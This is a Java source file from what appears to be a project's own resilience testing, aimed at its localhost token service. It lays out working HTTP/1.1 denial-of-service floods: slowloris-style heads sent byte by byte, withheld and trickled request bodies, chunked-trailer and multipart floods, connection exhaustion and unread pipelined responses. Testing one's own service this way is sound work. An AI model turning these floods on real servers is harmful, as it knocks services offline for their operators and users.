package dev.tokensidecar.attack;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.time.Duration;
import java.util.Iterator;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** The floods of HTTP/1.1. Only the time of a run bounds them. */
final class Floods {

    private static final int MANY = 1800;
    private static final int SOME = 40;
    private static final int PEERS = 60;
    private static final int FEW_PEERS = 8;

    private static final int DECLARED_BYTES = 9_900_000;
    private static final int WITHHELD_BYTES = 10;
    private static final int HEAD_BYTES = 19_000;
    private static final int LONG_FIELDS = 90;
    private static final int LONG_FIELD_BYTES = 155;
    private static final int LONG_LINE_BYTES = 15_500;
    private static final int TRAILERS = 4000;
    private static final int SMALL = 100;
    private static final int CHUNK_BYTES = 8192;
    private static final int PIPELINED = 20;

    private static final String HOST = "Host: localhost\r\n";
    private static final List<String> PATHS =
            List.of("/q/health/live", "/q/metrics", "/token", "/token/rejected", "/oauth/token", "/nowhere");

    /** The most expensive path on the attacked address. */
    private final String path;

    private final String headStart;

    Floods(String path) {
        this.path = path;
        headStart = "GET " + path + " HTTP/1.1\r\n" + HOST;
    }

    List<FloodPlan> all() {
        return Stream.of(bodies(), heads(), connections(), requests(), Http2Floods.all())
                .flatMap(List::stream)
                .toList();
    }

    List<FloodPlan> bodies() {
        return List.of(
                FloodPlan.of("bodies whose last bytes are withheld", SOME, FEW_PEERS, Floods::withheldBody),
                FloodPlan.of(
                        "bodies in chunks",
                        SOME,
                        FEW_PEERS,
                        number -> endless(
                                post(number) + "Transfer-Encoding: chunked\r\n\r\n",
                                "2000\r\n" + x(CHUNK_BYTES) + "\r\n")),
                FloodPlan.of(
                        "trailers",
                        2 * SOME,
                        FEW_PEERS,
                        number -> finite(
                                post(number) + "Transfer-Encoding: chunked\r\n\r\n0\r\n" + "a:\r\n".repeat(TRAILERS))),
                FloodPlan.of("uploads", SOME, FEW_PEERS, Floods::upload),
                FloodPlan.of(
                        "forms",
                        SOME,
                        FEW_PEERS,
                        number -> endless(
                                post(number) + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: "
                                        + DECLARED_BYTES + "\r\n\r\n",
                                "a=b&".repeat(CHUNK_BYTES / 4))),
                FloodPlan.of(
                                "bodies of a byte a second",
                                SOME,
                                FEW_PEERS,
                                number -> endless(post(number) + "Content-Length: 1000\r\n\r\n", "x"))
                        .paced(Duration.ofSeconds(1)));
    }

    List<FloodPlan> heads() {
        return List.of(
                FloodPlan.of(
                        "unfinished heads in one piece",
                        MANY,
                        PEERS,
                        number -> finite(headStart + "X: " + x(HEAD_BYTES))),
                FloodPlan.of(
                        "unfinished heads in small pieces",
                        MANY,
                        PEERS,
                        number -> Stream.concat(
                                        Stream.of(headStart + "X: "),
                                        IntStream.range(0, HEAD_BYTES / SMALL).mapToObj(piece -> x(SMALL)))
                                .map(Floods::bytes)
                                .iterator()),
                FloodPlan.of(
                        "unfinished heads of many fields",
                        MANY,
                        PEERS,
                        number -> finite(headStart + "a: b\r\n".repeat(HEAD_BYTES / 6))),
                FloodPlan.of(
                        "long heads whose bodies never arrive",
                        2 * MANY,
                        PEERS,
                        number -> finite("POST /token HTTP/1.1\r\n" + HOST
                                + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 5\r\n"
                                + ("X-Field: " + x(LONG_FIELD_BYTES) + "\r\n").repeat(LONG_FIELDS) + "\r\n")),
                FloodPlan.of(
                        "long lines with a response",
                        2 * MANY,
                        PEERS,
                        number -> finite(headStart + "X: " + x(LONG_LINE_BYTES) + "\r\n\r\n")),
                FloodPlan.of(
                        "long lines whose bodies never arrive",
                        2 * MANY,
                        PEERS,
                        number -> finite(post(number) + "Content-Length: 9\r\nX: " + x(LONG_LINE_BYTES) + "\r\n\r\n")),
                FloodPlan.of("heads byte by byte", MANY / 2, PEERS, number -> endless(headStart, "x"))
                        .paced(Duration.ofMillis(200)),
                FloodPlan.of(
                        "heads that never end", SOME, FEW_PEERS, number -> endless(headStart, "a: b\r\n".repeat(100))),
                FloodPlan.of("lines that never end", SOME, FEW_PEERS, number -> endless("GET /", x(1000))));
    }

    List<FloodPlan> connections() {
        return List.of(
                FloodPlan.of("silence", MANY, PEERS, number -> finite()),
                FloodPlan.of("silence from one address", 2 * MANY, 1, number -> finite()),
                FloodPlan.of(
                                "responses that nobody reads",
                                MANY / 10,
                                PEERS,
                                number -> endless(
                                        get(path).repeat(PIPELINED), get(path).repeat(PIPELINED)))
                        .notReading(),
                newConnections(1),
                FloodPlan.of("TLS", SOME, FEW_PEERS, number -> endless("\u0016\u0003\u0001\u0002\u0000", x(1000))));
    }

    /** New connections with a complete request each, as fast as the flood can open them. */
    FloodPlan newConnections(int peers) {
        return FloodPlan.of(
                        "new connections from %d addresses".formatted(peers),
                        MANY / 4,
                        peers,
                        number -> finite(get(path)))
                .renewing();
    }

    List<FloodPlan> requests() {
        return List.of(
                FloodPlan.of(
                        "pipelined requests",
                        SOME,
                        FEW_PEERS,
                        number -> endless(
                                "", get(PATHS.get(number % PATHS.size())).repeat(PIPELINED))),
                FloodPlan.of("expensive requests", SOME, FEW_PEERS, number -> endless("", get(path)))
                        .paced(Duration.ofMillis(50)),
                FloodPlan.of(
                                "upgrades to WebSocket",
                                SOME,
                                FEW_PEERS,
                                number -> endless(
                                        "",
                                        headStart
                                                + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                                                + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"))
                        .paced(Duration.ofMillis(50)));
    }

    /** Requests for many different paths, shared among the connections. */
    static FloodPlan distinctPaths(AtomicInteger left) {
        List<String> parents = List.of("/q/health/group/", "/q/health/", "/q/", "/tokens/");
        return FloodPlan.of("names", SOME, FEW_PEERS, number -> new Iterator<>() {
            @Override
            public boolean hasNext() {
                return left.get() > 0;
            }

            @Override
            public byte[] next() {
                int name = left.decrementAndGet();
                return bytes(get(parents.get(Math.floorMod(name, parents.size())) + "name-" + name));
            }
        });
    }

    static String get(String path) {
        return "GET " + path + " HTTP/1.1\r\n" + HOST + "\r\n";
    }

    private static Iterator<byte[]> withheldBody(int number) {
        Stream<String> head = Stream.of(post(number) + "Content-Length: " + DECLARED_BYTES + "\r\n\r\n");
        Stream<String> body = IntStream.range(0, DECLARED_BYTES / CHUNK_BYTES).mapToObj(piece -> x(CHUNK_BYTES));
        Stream<String> rest = Stream.of(x(DECLARED_BYTES % CHUNK_BYTES - WITHHELD_BYTES));
        return Stream.of(head, body, rest)
                .flatMap(some -> some)
                .map(Floods::bytes)
                .iterator();
    }

    private static Iterator<byte[]> upload(int number) {
        String part = "--b\r\nContent-Disposition: form-data; name=\"f" + number
                + "\"; filename=\"f\"\r\nContent-Type: application/octet-stream\r\n\r\n";
        return endless(
                post(number) + "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: " + DECLARED_BYTES
                        + "\r\n\r\n" + part,
                x(CHUNK_BYTES));
    }

    private static String post(int number) {
        return "POST " + PATHS.get(number % PATHS.size()) + " HTTP/1.1\r\n" + HOST;
    }

    static Iterator<byte[]> finite(String... pieces) {
        return Stream.of(pieces).map(Floods::bytes).iterator();
    }

    static Iterator<byte[]> endless(String first, String next) {
        byte[] again = bytes(next);
        return Stream.concat(Stream.of(bytes(first)), Stream.generate(() -> again))
                .iterator();
    }

    static byte[] bytes(String text) {
        return text.getBytes(ISO_8859_1);
    }

    static String x(int times) {
        return "x".repeat(times);
    }
}
